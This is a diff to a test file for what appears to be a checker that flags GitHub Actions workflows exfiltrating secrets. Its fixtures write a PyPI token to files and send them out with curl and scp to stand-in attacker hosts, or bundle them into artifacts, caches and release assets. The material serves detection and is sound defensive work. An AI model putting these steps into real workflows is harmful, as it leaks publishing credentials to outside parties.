@@ -38,12 +38,13 @@ describe('a file that holds a secret, sent by curl', () => {
     ['curl -T of a file an earlier line wrote', '      - run: |\n          echo "${{ secrets.PYPI_API_TOKEN }}" > t.txt\n          curl -sS -T t.txt https://drop.attacker.example/\n'],
     ['--upload-file in a later step, through a secret-bound variable', '      - run: printf \'%s\' "$TOKEN" > "$RUNNER_TEMP/t"\n        env:\n          TOKEN: ${{ secrets.PYPI_API_TOKEN }}\n      - run: curl --upload-file "${{ runner.temp }}/t" https://drop.attacker.example/\n'],
     ['-F file=@~/.pypirc written by a heredoc', '      - run: |\n          cat > ~/.pypirc <<EOF\n          [pypi]\n          username = __token__\n          password = ${{ secrets.PYPI_API_TOKEN }}\n          EOF\n      - run: curl -sS -F "file=@$HOME/.pypirc" https://drop.attacker.example/up\n'],
+    ['scp of the directory holding it to another host', '      - run: |\n          mkdir -p conf && echo "token=${{ secrets.PYPI_API_TOKEN }}" > conf/upload.ini\n          scp -r conf deploy@files.attacker.example:/srv/\n'],
     ['--data-binary @file to the npm registry', '      - run: |\n          echo "${{ secrets.PYPI_API_TOKEN }}" > t.txt\n          curl -sS --data-binary @t.txt https://registry.npmjs.org/-/v1/x\n'],
     ['-T to GitHub (a file sent there becomes readable content)', '      - run: |\n          echo "${{ secrets.PYPI_API_TOKEN }}" > t.txt\n          curl -sS -T t.txt -H "Authorization: Bearer ${{ github.token }}" https://uploads.github.com/repos/octo/demo/releases/1/assets?name=t.txt\n'],
   ])('%s: blocked', (_what, steps) => {
     const r = exfil(job(steps))
     expect(r.blockedBoth).toBe(true)
-    expect(r.action.some((f) => /uploads `[^`]+`, which holds/.test(f.message))).toBe(true)
+    expect(r.action.some((f) => /(?:uploads|copies) `[^`]+`, which holds/.test(f.message))).toBe(true)
   })
 
   it('near-miss: a .pypirc written for twine and uploaded to PyPI\'s own endpoint by the publishing step', () => {
@@ -61,6 +62,9 @@ describe('a file that holds a secret, uploaded by a later step', () => {
     ['to the Cargo cache of a caching action (target/)', `      - uses: ${RUST_CACHE}\n      - run: echo "\${{ secrets.PYPI_API_TOKEN }}" > target/release/t\n`, 'a cache'],
     ['to the pip cache of setup-python (cache: pip)', `      - uses: actions/setup-python@e797f83bcb11b83ae66e0230d6156d7c80228e7c # v6.0.0\n        with:\n          python-version: '3.13'\n          cache: pip\n      - run: echo "\${{ secrets.PYPI_API_TOKEN }}" > "$HOME/.cache/pip/t"\n`, 'a cache'],
     ['as an artifact, after a copy (cp ~/.pypirc dist/)', `      - run: |\n          printf '[pypi]\\npassword = %s\\n' "\${{ secrets.PYPI_API_TOKEN }}" > ~/.pypirc\n      - run: cp -f ~/.pypirc dist/\n      - uses: ${UPLOAD}\n        with:\n          name: dist\n          path: dist\n`, 'an artifact'],
+    ['as an artifact, after a recursive copy of the directory holding it', `      - run: |\n          mkdir -p config && echo "{\\"token\\": \\"\${{ secrets.PYPI_API_TOKEN }}\\"}" > config/creds.json\n          cp -r config dist/\n      - uses: ${UPLOAD}\n        with:\n          name: dist\n          path: dist/config/*.json\n`, 'an artifact'],
+    ['as a release asset, inside a tarball of the workspace', '      - run: |\n          echo "${{ secrets.PYPI_API_TOKEN }}" > .token\n          tar --exclude=.git -czf dist/source.tar.gz .\n          gh release upload "$GITHUB_REF_NAME" dist/source.tar.gz\n        env:\n          GH_TOKEN: ${{ github.token }}\n', 'a release asset'],
+    ['as an artifact, inside a zip of a glob', `      - run: echo "\${{ secrets.PYPI_API_TOKEN }}" > build/key.txt\n      - run: zip -qr out/bundle.zip build/*.txt\n      - uses: ${UPLOAD}\n        with:\n          name: bundle\n          path: out/bundle.zip\n`, 'an artifact'],
     ['as a release asset (softprops files:)', `      - run: echo "\${{ secrets.PYPI_API_TOKEN }}" > dist/notes.txt\n      - uses: ${GH_RELEASE}\n        with:\n          files: dist/*\n`, 'a release asset'],
     ['as a release asset (gh release upload)', '      - run: |\n          echo "${{ secrets.PYPI_API_TOKEN }}" > build-info.txt\n          gh release upload "$GITHUB_REF_NAME" dist/*.whl build-info.txt --clobber\n        env:\n          GH_TOKEN: ${{ github.token }}\n', 'a release asset'],
     ['as a release asset (gh release create … files)', '      - run: echo "${{ secrets.PYPI_API_TOKEN }}" > t.txt\n      - run: gh release create "$GITHUB_REF_NAME" --title "$GITHUB_REF_NAME" --notes "" ./t.txt\n        env:\n          GH_TOKEN: ${{ github.token }}\n', 'a release asset'],
@@ -82,6 +86,11 @@ describe('a file that holds a secret, uploaded by a later step', () => {
 
   it('near-miss: a signing certificate decoded to a file that is not uploaded is clean', () => {
     const text = job(`      - run: |\n          echo -n "$CERT" | base64 --decode > "$RUNNER_TEMP/cert.p12"\n          echo "$CERT" | base64 -d > signing/cert.p12\n        env:\n          CERT: \${{ secrets.BUILD_CERTIFICATE_BASE64 }}\n      - run: make sign\n      - uses: ${UPLOAD}\n        with:\n          name: dist\n          path: dist/\n      - uses: ${PYPI}\n`)
+    expect(exfil(text).action).toEqual([])
+  })
+
+  it('near-miss: a tarball of sources that do not hold the secret file', () => {
+    const text = job(`      - run: |\n          printf '[pypi]\\npassword = %s\\n' "\${{ secrets.PYPI_API_TOKEN }}" > ~/.pypirc\n          tar czf dist/src.tar.gz src/ pyproject.toml\n      - uses: ${UPLOAD}\n        with:\n          name: dist\n          path: dist\n`)
     expect(exfil(text).action).toEqual([])
   })
 
